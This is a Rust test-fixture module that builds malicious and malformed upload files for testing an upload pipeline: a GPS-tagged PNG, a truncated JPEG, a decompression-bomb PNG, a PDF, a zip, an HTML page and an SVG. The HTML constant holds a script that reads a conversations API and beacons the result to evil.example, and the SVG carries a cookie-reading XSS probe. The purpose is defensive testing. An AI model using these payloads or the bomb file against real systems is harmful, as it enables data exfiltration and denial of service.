//! Files for the upload tests, generated here rather than checked in: a PNG carrying a GPS
//! EXIF block, a truncated JPEG, a decompression-bomb PNG (huge declared size, tiny file), a
//! PDF without a text layer, a zip, an HTML page and an SVG with a script.

use std::io::Cursor;

/// The text hidden in the PNG's GPS block; the stored image must not contain it.
pub const GPS_SECRET: &[u8] = b"SLUICE-SECRET-PLACE";

/// CRC-32 (IEEE) as PNG chunks use it.
fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFFu32;
    for &byte in bytes {
        crc ^= u32::from(byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// One PNG chunk: length, type, data, CRC.
fn chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(data.len() + 12);
    out.extend_from_slice(&u32::try_from(data.len()).expect("chunk size").to_be_bytes());
    out.extend_from_slice(kind);
    out.extend_from_slice(data);
    let mut crc_input = kind.to_vec();
    crc_input.extend_from_slice(data);
    out.extend_from_slice(&crc32(&crc_input).to_be_bytes());
    out
}

/// A `width`×`height` gradient as an image.
fn gradient(width: u32, height: u32) -> image::RgbImage {
    image::RgbImage::from_fn(width, height, |x, y| {
        image::Rgb([(x * 7 % 256) as u8, (y * 5 % 256) as u8, 128])
    })
}

/// A plain `width`×`height` PNG.
pub fn png(width: u32, height: u32) -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    gradient(width, height)
        .write_to(&mut out, image::ImageFormat::Png)
        .expect("encode PNG");
    out.into_inner()
}

/// A big-endian TIFF (EXIF) block whose IFD0 points to a GPS IFD with a latitude reference,
/// a latitude and an area text holding [`GPS_SECRET`].
fn gps_exif() -> Vec<u8> {
    let mut tiff = Vec::new();
    tiff.extend_from_slice(b"MM\0\x2a\0\0\0\x08");
    // IFD0 at 8: one entry, GPSInfo (0x8825, LONG) → the GPS IFD at 26.
    tiff.extend_from_slice(&1u16.to_be_bytes());
    tiff.extend_from_slice(&[0x88, 0x25, 0, 4, 0, 0, 0, 1, 0, 0, 0, 26]);
    tiff.extend_from_slice(&0u32.to_be_bytes());
    // GPS IFD at 26: three entries (12 bytes each), then the next-IFD 0: data from 26+2+36+4=68.
    let latitude_at: u32 = 68;
    let area_at: u32 = latitude_at + 24;
    let mut area = b"ASCII\0\0\0".to_vec();
    area.extend_from_slice(GPS_SECRET);
    tiff.extend_from_slice(&3u16.to_be_bytes());
    // GPSLatitudeRef, ASCII, 2: "N\0" inline.
    tiff.extend_from_slice(&[0, 1, 0, 2, 0, 0, 0, 2, b'N', 0, 0, 0]);
    // GPSLatitude, RATIONAL, 3 → latitude_at.
    tiff.extend_from_slice(&[0, 2, 0, 5, 0, 0, 0, 3]);
    tiff.extend_from_slice(&latitude_at.to_be_bytes());
    // GPSAreaInformation, UNDEFINED, len → area_at.
    tiff.extend_from_slice(&[0, 0x1c, 0, 7]);
    tiff.extend_from_slice(&u32::try_from(area.len()).expect("area").to_be_bytes());
    tiff.extend_from_slice(&area_at.to_be_bytes());
    tiff.extend_from_slice(&0u32.to_be_bytes());
    assert_eq!(tiff.len(), latitude_at as usize);
    for (numerator, denominator) in [(48u32, 1u32), (51, 1), (2401, 100)] {
        tiff.extend_from_slice(&numerator.to_be_bytes());
        tiff.extend_from_slice(&denominator.to_be_bytes());
    }
    tiff.extend_from_slice(&area);
    tiff
}

/// A 64×48 PNG with an `eXIf` chunk (before the image data) holding GPS coordinates and
/// [`GPS_SECRET`].
pub fn png_with_gps() -> Vec<u8> {
    let plain = png(64, 48);
    // Signature (8) + IHDR chunk (25): the eXIf chunk goes right after.
    let (head, rest) = plain.split_at(33);
    let mut out = head.to_vec();
    out.extend(chunk(b"eXIf", &gps_exif()));
    out.extend_from_slice(rest);
    out
}

/// The first half of a 64×64 JPEG: its header is fine, its image data ends early.
pub fn truncated_jpeg() -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    gradient(64, 64)
        .write_to(&mut out, image::ImageFormat::Jpeg)
        .expect("encode JPEG");
    let mut bytes = out.into_inner();
    bytes.truncate(bytes.len() / 2);
    bytes
}

/// A PNG declaring 100,000 × 100,000 pixels (40 GB decoded) in a few dozen bytes: its image
/// data is one short zlib stream of zeros.
pub fn bomb_png() -> Vec<u8> {
    let mut ihdr = Vec::new();
    ihdr.extend_from_slice(&100_000u32.to_be_bytes());
    ihdr.extend_from_slice(&100_000u32.to_be_bytes());
    ihdr.extend_from_slice(&[8, 2, 0, 0, 0]);
    // zlib: header, one stored block of 16 zero bytes, Adler-32 of them (1, as all are 0:
    // a = 1, b = 16).
    let mut idat = vec![0x78, 0x01, 0x01, 16, 0, !16u8, 0xff];
    idat.extend_from_slice(&[0; 16]);
    idat.extend_from_slice(&[0, 16, 0, 1]);
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    out.extend(chunk(b"IHDR", &ihdr));
    out.extend(chunk(b"IDAT", &idat));
    out.extend(chunk(b"IEND", &[]));
    out
}

/// A one-page PDF with no text on the page (a scan would look like this, minus the image).
pub fn pdf_without_text() -> Vec<u8> {
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        "<< /Length 0 >>\nstream\n\nendstream",
    ];
    // The binary comment marks the file as binary, as real PDFs do.
    let mut pdf = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut offsets = Vec::new();
    for (n, body) in objects.iter().enumerate() {
        offsets.push(pdf.len());
        pdf.extend_from_slice(format!("{} 0 obj\n{body}\nendobj\n", n + 1).as_bytes());
    }
    let xref_at = pdf.len();
    let mut tail = format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1);
    for offset in offsets {
        tail.push_str(&format!("{offset:010} 00000 n \n"));
    }
    tail.push_str(&format!(
        "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref_at}\n%%EOF\n",
        objects.len() + 1
    ));
    pdf.extend_from_slice(tail.as_bytes());
    pdf
}

/// A zip archive holding one stored file (the local header, the central directory, the end).
pub fn zip() -> Vec<u8> {
    let mut out = b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0".to_vec();
    out.extend_from_slice(&[0xd9, 0x3a, 0x6b, 0x53]); // CRC of "hi"
    out.extend_from_slice(&[2, 0, 0, 0, 2, 0, 0, 0, 5, 0, 0, 0]);
    out.extend_from_slice(b"a.txthi");
    out.extend_from_slice(b"PK\x01\x02\x14\0\x14\0\0\0\0\0\0\0\0\0");
    out.extend_from_slice(&[0xd9, 0x3a, 0x6b, 0x53, 2, 0, 0, 0, 2, 0, 0, 0, 5, 0]);
    out.extend_from_slice(&[0; 16]);
    out.extend_from_slice(b"a.txt");
    out.extend_from_slice(b"PK\x05\x06\0\0\0\0\x01\0\x01\0\x33\0\0\0\x25\0\0\0\0\0");
    out
}

/// An HTML page with a script (to be uploaded under an image's name).
pub const HTML_PAGE: &str = "<!DOCTYPE html>\n<html><body><script>fetch('/api/conversations/list')\
    .then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example/', t))</script>\
    </body></html>\n";

/// An SVG image with a script in it.
pub const SVG_WITH_SCRIPT: &str =
    "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" \
    width=\"10\" height=\"10\"><script>alert(document.cookie)</script>\
    <rect width=\"10\" height=\"10\"/></svg>\n";
